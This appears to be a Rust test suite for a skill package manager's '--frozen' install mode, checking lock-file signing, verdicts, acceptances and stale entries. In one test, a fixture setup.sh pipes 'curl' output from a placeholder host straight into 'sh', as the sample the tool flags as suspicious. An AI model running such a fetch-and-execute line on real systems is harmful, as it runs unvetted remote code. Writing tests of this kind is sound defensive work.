//! `--frozen` keeps a lock only as it is signed and wanted.

use insta::assert_snapshot;

use crate::install_registry::github;
use crate::support::{Registry, Sandbox, Skill};

/// A fresh clone of `user` whose lock has `from` replaced by `to`.
fn clone(registry: &Registry, user: &Sandbox, from: &str, to: &str) -> Sandbox {
    let lock = user.read("skills.lock");
    assert!(lock.contains(from), "{lock}");
    let other = Sandbox::with(registry);
    other.write("skills.toml", user.read("skills.toml"));
    other.write("skills.lock", lock.replace(from, to));
    other
}

fn field<'l>(lock: &'l str, name: &str) -> &'l str {
    lock.lines().find(|line| line.starts_with(&format!("{name} = "))).unwrap()
}

#[test]
fn a_verdict_or_findings_that_were_not_signed_are_refused() {
    let registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    user.skill(["install", "github@^3"]).success();
    let lock = user.read("skills.lock");
    let findings = format!("findings = \"{}\"", "ab".repeat(32));
    let other = clone(&registry, &user, field(&lock, "findings"), &findings);
    let before = other.disk();
    let out = other.skill(["install", "--frozen", "--json"]).code(4);
    assert_eq!(out.json()["error"]["check"], "lock-findings", "{out}");
    assert_eq!(other.disk(), before);
    let other = clone(&registry, &user, field(&lock, "verdict"), "verdict = \"suspicious\"");
    let before = other.disk();
    let out = other.skill(["install", "--frozen"]).code(5);
    assert!(
        out.stderr
            .contains("error[verdict-changed]: acme/github 3.4.1 is clean, and skills.lock says suspicious"),
        "{out}"
    );
    assert_eq!(other.disk(), before);
    other.skill(["install"]).success();
    other.skill(["verify"]).success();
    other.skill(["install", "--frozen"]).success();
}

#[test]
fn an_acceptance_that_is_not_in_the_lock_does_not_count_under_frozen() {
    let registry = Registry::start();
    let author = Sandbox::publisher(&registry, "octo");
    let script = "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n";
    Skill::new("deploy").script("setup.sh", script).publish(&author, "0.9.2").success();
    let user = Sandbox::with(&registry);
    user.skill(["install", "octo/deploy", "--accept", "octo/deploy"]).success();
    let other = clone(&registry, &user, "accepted = true", "accepted = false");
    let before = other.disk();
    for accept in [&[][..], &["--accept", "octo/deploy@0.9.2"]] {
        let out = other.skill(["install", "--frozen", "--json"].iter().chain(accept)).code(5);
        assert_eq!(out.error_code(), "verdict-suspicious");
        let out = other.skill(["install", "--frozen"].iter().chain(accept)).code(5);
        assert!(
            out.stderr.contains("because: --frozen changes no lock, and takes what that accepts"),
            "{out}"
        );
        // What was given and does not count is said, and not asked for again.
        let ignored = "because: --accept counts for nothing with --frozen";
        assert_eq!(out.stderr.contains(ignored), !accept.is_empty(), "{out}");
        assert!(!out.stderr.contains("hint: add `--accept"), "{out}");
        let hint = "hint: run `skill install --accept octo/deploy@0.9.2` without `--frozen`";
        assert!(out.stderr.contains(hint), "{out}");
    }
    assert_eq!(other.disk(), before);
    other.skill(["install", "--accept", "octo/deploy@0.9.2"]).success();
    fs_err::remove_dir_all(other.path("skills")).unwrap();
    other.skill(["install", "--frozen"]).success();
    other.skill(["verify"]).success();
}

#[test]
fn what_is_locked_and_no_longer_wanted() {
    let registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    user.skill(["install", "github@^3"]).success();
    Skill::new("dirry").write(&user, "dirry");
    user.skill(["install", "./dirry"]).success();
    user.write("skills.toml", "[skills]\n");
    let before = user.disk();
    assert_snapshot!(user.skill(["install", "--frozen"]).to_string(), @r"
    -- stderr
    error[lock-stale]: skills.lock does not answer skills.toml
         dirry        not wanted, locked from a path source
         acme/github  not wanted, locked 3.4.1
      because: --frozen changes no lock; nothing was changed
    hint: run `skill remove dirry github` and commit skills.lock
    -- exit 8
    ");
    assert_snapshot!(user.skill(["install"]).to_string(), @r"
    -- stdout
    unchanged  acme/github 3.4.1   skills/github
    unchanged  dirry               skills/dirry
    -- stderr
    note: dirry is in skills.lock, and skills.toml does not want it; run `skill remove dirry` to remove it
    note: github is in skills.lock, and skills.toml does not want it; run `skill remove github` to remove it
    nothing to do: 2 skills are as locked
    -- exit 0
    ");
    assert_eq!(user.disk(), before);
    user.skill(["remove", "github", "dirry"]).success();
    user.skill(["install", "--frozen"]).success();
}

#[test]
fn another_requirement_than_the_locked_one() {
    let registry = Registry::start();
    let _author = github(&registry);
    let user = Sandbox::with(&registry);
    user.skill(["install", "github@^3"]).success();
    user.write("skills.toml", "[skills]\n\"acme/github\" = \">=3, <5\"\n");
    let before = user.disk();
    let out = user.skill(["install", "--frozen"]).code(8);
    assert!(out.stderr.contains("acme/github  wanted >=3 <5, locked 3.4.1 for ^3"), "{out}");
    assert_eq!(user.disk(), before);
    user.skill(["install"]).success();
    assert!(user.read("skills.lock").contains("version = \"3.4.1\""), "a plain install changes no version");
    user.skill(["install", "--frozen"]).success();
    user.skill(["verify"]).success();
}
